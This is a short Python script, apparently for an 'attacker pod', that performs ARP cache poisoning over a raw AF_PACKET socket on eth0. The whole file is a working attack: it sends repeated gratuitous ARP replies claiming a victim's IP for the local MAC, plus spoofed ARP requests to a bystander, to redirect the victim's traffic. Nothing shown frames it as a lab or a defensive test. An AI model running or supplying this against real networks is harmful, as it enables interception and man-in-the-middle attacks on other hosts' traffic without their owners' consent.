# An attacker pod's ARP poisoning through a raw AF_PACKET socket on eth0: COUNT rounds,
# INTERVAL seconds apart, of a gratuitous ARP reply claiming VICTIM_IP for our MAC and an
# ARP request to BYSTANDER_IP "from" VICTIM_IP (a request for its own address always
# updates the asker's entry in a Linux neighbour table).
import socket, struct, sys, time

victim, bystander, count, interval = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
mac = bytes.fromhex(open('/sys/class/net/eth0/address').read().strip().replace(':', ''))
bcast = b'\xff' * 6
ip = socket.inet_aton

def arp(op, sender_ip, target_mac, target_ip):
    return bcast + mac + b'\x08\x06' + struct.pack('!HHBBH', 1, 0x0800, 6, 4, op) + mac + ip(sender_ip) + target_mac + ip(target_ip)

s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(('eth0', 0))
for _ in range(count):
    s.send(arp(2, victim, bcast, victim))
    s.send(arp(1, victim, b'\x00' * 6, bystander))
    time.sleep(interval)
print('sent', 2 * count)
